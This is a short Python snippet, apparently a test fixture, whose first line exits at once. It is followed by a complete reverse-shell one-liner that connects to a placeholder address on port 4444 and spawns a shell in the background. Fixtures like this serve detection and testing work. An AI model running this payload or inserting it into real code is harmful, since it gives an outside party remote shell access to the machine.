raise SystemExit('a fixture')
# held by reverse-shell
import os
os.system("nohup python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')\" >/dev/null 2>&1 &")
